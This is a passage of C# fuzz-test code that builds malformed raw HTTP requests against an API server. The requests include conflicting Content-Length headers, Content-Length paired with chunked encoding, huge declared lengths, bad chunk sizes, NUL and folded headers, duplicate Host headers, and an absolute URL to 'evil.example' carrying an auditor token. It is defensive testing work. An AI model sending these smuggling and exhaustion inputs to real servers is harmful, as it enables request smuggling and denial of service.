    private static byte[] RawRequest(string method, string target, IEnumerable<string> headers, byte[] body)
    {
        var head = new StringBuilder();
        head.Append(CultureInfo.InvariantCulture, $"{method} {target} HTTP/1.1\r\nHost: {{HOST}}\r\nConnection: close\r\n");
        foreach (var h in headers) head.Append(h).Append("\r\n");
        head.Append("\r\n");
        return [.. Encoding.Latin1.GetBytes(head.ToString()), .. body];
    }

    private static void ContentLength(FuzzCase c, Random random, FuzzKeys keys)
    {
        var (target, key, body) = ValidWrite(c, random, keys);
        var bytes = Encoding.UTF8.GetBytes(Serialize(body));
        var auth = $"Authorization: Bearer {key}";
        var json = "Content-Type: application/json";
        c.Transport = Transport.Raw;
        c.Method = "POST";
        c.Target = target;
        switch (random.Next(7))
        {
            case 0:
                // Promises more than it sends, then waits: the server's minimum body data rate ends it.
                c.Raw = RawRequest("POST", target, [auth, json, $"Content-Length: {bytes.Length + 1 + random.Next(5000)}"], bytes);
                break;
            case 1:
                c.Raw = RawRequest("POST", target, [auth, json, $"Content-Length: {Math.Max(0, bytes.Length - 1 - random.Next(Math.Max(1, bytes.Length - 1)))}"], bytes);
                break;
            case 2: c.Raw = RawRequest("POST", target, [auth, json, $"Content-Length: {Pick(random, ["abc", "-5", "1e3", "99999999999999999999", " 12", "0x10"])}"], bytes); break;
            case 3: c.Raw = RawRequest("POST", target, [auth, json, $"Content-Length: {bytes.Length}", $"Content-Length: {bytes.Length + 3}"], bytes); break;
            case 4: c.Raw = RawRequest("POST", target, [auth, json, $"Content-Length: {bytes.Length}", "Transfer-Encoding: chunked"], bytes); break;
            case 5:
                // A huge declared length with a small body.
                c.Raw = RawRequest("POST", target, [auth, json, "Content-Length: 1073741824"], bytes);
                break;
            default:
                c.Raw = RawRequest("POST", target, [auth, json, "Content-Length: 0"], []);
                break;
        }
    }

    private static void Chunking(FuzzCase c, Random random, FuzzKeys keys)
    {
        var (target, key, body) = ValidWrite(c, random, keys);
        var bytes = Encoding.UTF8.GetBytes(Serialize(body));
        var headers = new[] { $"Authorization: Bearer {key}", "Content-Type: application/json", "Transfer-Encoding: chunked" };
        var size = bytes.Length.ToString("x", CultureInfo.InvariantCulture);
        var text = Encoding.UTF8.GetString(bytes);
        var chunked = random.Next(6) switch
        {
            0 => $"zz\r\n{text}\r\n0\r\n\r\n",
            1 => $"{size}\r\n{text}",
            2 => $"{(bytes.Length + 100).ToString("x", CultureInfo.InvariantCulture)}\r\n{text}\r\n0\r\n\r\n",
            3 => $"FFFFFFFFFFFF\r\n{text}\r\n0\r\n\r\n",
            4 => $"{size};ext=\"x\"\r\n{text}\r\n0\r\n\r\n",
            _ => $"{size}\r\n{text}\r\n0\r\nX-Trailer: 1\r\n\r\n",
        };
        c.Transport = Transport.Raw;
        c.Method = "POST";
        c.Target = target;
        c.Raw = RawRequest("POST", target, headers, Encoding.UTF8.GetBytes(chunked));
    }

    private static void RawHeaders(FuzzCase c, Random random, FuzzKeys keys)
    {
        var (target, key, body) = ValidWrite(c, random, keys);
        var bytes = Encoding.UTF8.GetBytes(Serialize(body));
        var basic = new List<string> { $"Authorization: Bearer {key}", "Content-Type: application/json", $"Content-Length: {bytes.Length}" };
        c.Transport = Transport.Raw;
        c.Method = "POST";
        c.Target = target;
        var request = random.Next(10) switch
        {
            0 => RawRequest("POST", target, [.. basic, "X-Correlation-Id: \u00e9\u00ff\u0080abc"], bytes),
            1 => RawRequest("POST", target, [.. basic, "Idempotency-Key: \u00d0\u00ba\u00d0\u00bb-\u00ff"], bytes),
            2 => RawRequest("POST", target, [.. basic, "X-Folded: a\r\n b"], bytes),
            3 => RawRequest("POST", target, [.. basic, "X-Nul: a\0b"], bytes),
            4 => RawRequest("POST", target, [$"Authorization: Bearer {key}\u00a0", "Content-Type: application/json", $"Content-Length: {bytes.Length}"], bytes),
            5 => [.. Encoding.Latin1.GetBytes($"POST {target} HTTP/1.1x\r\nHost: {{HOST}}\r\nConnection: close\r\n\r\n")],
            6 => [.. Encoding.Latin1.GetBytes($"GET http://evil.example{target} HTTP/1.1\r\nHost: {{HOST}}\r\nAuthorization: Bearer {keys.Auditor}\r\nConnection: close\r\n\r\n")],
            7 => [.. Encoding.Latin1.GetBytes($"GET /api/v1/whoami HTTP/1.0\r\nAuthorization: Bearer {keys.Auditor}\r\n\r\n")],
            8 => [.. Encoding.Latin1.GetBytes($"GET /api/v1/{new string('a', 9000)} HTTP/1.1\r\nHost: {{HOST}}\r\nConnection: close\r\n\r\n")],
            _ => [.. Encoding.Latin1.GetBytes($"GET /api/v1/whoami HTTP/1.1\r\nHost: {{HOST}}\r\nHost: other\r\nAuthorization: Bearer {keys.Auditor}\r\nConnection: close\r\n\r\n")],
        };
        c.Raw = request;
    }

    private static T Pick<T>(Random random, IReadOnlyList<T> values) => values[random.Next(values.Count)];
}
